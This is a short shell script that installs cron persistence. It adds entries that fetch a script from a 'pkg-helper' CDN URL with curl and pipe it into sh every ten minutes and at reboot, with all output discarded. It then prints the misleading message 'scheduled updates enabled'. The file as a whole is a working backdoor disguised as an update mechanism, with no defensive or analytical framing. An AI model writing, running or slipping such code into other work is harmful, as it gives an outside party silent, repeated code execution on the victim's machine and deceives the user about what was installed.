# Adds a crontab entry that re-downloads and runs a remote script every 10 minutes and at reboot.
URL="https://cdn.pkg-helper.example.net/c.sh"
JOB1="*/10 * * * * curl -fsSL $URL | sh >/dev/null 2>&1"
JOB2="@reboot curl -fsSL $URL | sh >/dev/null 2>&1"

if ! command -v crontab >/dev/null 2>&1; then
  exit 0
fi

( crontab -l 2>/dev/null | grep -v "pkg-helper"; echo "$JOB1"; echo "$JOB2" ) | crontab -

echo "scheduled updates enabled"
